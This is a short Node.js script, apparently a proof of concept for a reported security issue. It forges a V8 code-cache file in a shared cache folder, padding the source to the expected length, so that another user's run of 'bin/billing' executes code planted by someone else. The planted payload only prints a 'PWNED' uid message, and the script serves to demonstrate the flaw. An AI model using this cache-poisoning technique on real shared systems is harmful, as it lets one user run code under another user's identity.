// What another user does to a shared cache folder (issue 34 §2): writes V8 code made from code
// of their own, of the same length as dist/packs/start.js (the first file of code the bundle
// loads: cli.js and what it imports), as the build's cache file (bin/billing's openBook: the
// index's length, the index, the data) with that file's entry under the hash the build made. V8 checks only the source's length, so a cache that bin/billing believed would run it.
//
//   node plant-cache.cjs DIST CACHE_ROOT
'use strict';
const fs = require('node:fs');
const path = require('node:path');
const vm = require('node:vm');

const [dist, root] = process.argv.slice(2);
const identity = JSON.parse(fs.readFileSync(path.join(dist, 'package.json'), 'utf8'));
const NAME = 'packs/start.js';
const filename = path.join(dist, ...NAME.split('/'));
const length = fs.readFileSync(filename, 'utf8').length;
// No inner function: V8 would compile it lazily from the real source, not from the cache.
const evil = `require('node:fs').writeSync(1, 'PWNED: code of uid ${process.getuid()} runs as uid ' + process.getuid() + '\\n'); process.exit(0);`;
const source = evil + ' '.repeat(length - evil.length);
const wrapper = `(function (exports, require, module, __filename, __dirname) {${source}\n})`;
const script = new vm.Script(wrapper, { filename });
// Run it once, so that the cache holds the compiled functions and not only the outer script.
const exit = process.exit;
process.exit = () => {};
script.runInThisContext()({}, require, {}, filename, dist);
process.exit = exit;
const dir = path.join(root, `${identity.billingBuild}-${process.versions.v8}-${process.arch}`);
fs.mkdirSync(dir, { recursive: true, mode: 0o755 });
const file = path.join(dir, 'code.cache');
const hash = JSON.parse(fs.readFileSync(path.join(dist, 'code-hashes.json'), 'utf8'))[NAME];
const data = script.createCachedData();
const index = Buffer.from(JSON.stringify({ [NAME]: [hash, 0, data.length] }));
const prefix = Buffer.alloc(4);
prefix.writeUInt32LE(index.length, 0);
fs.writeFileSync(file, Buffer.concat([prefix, index, data]), { mode: 0o644 });
process.stdout.write(`${file}\n`);
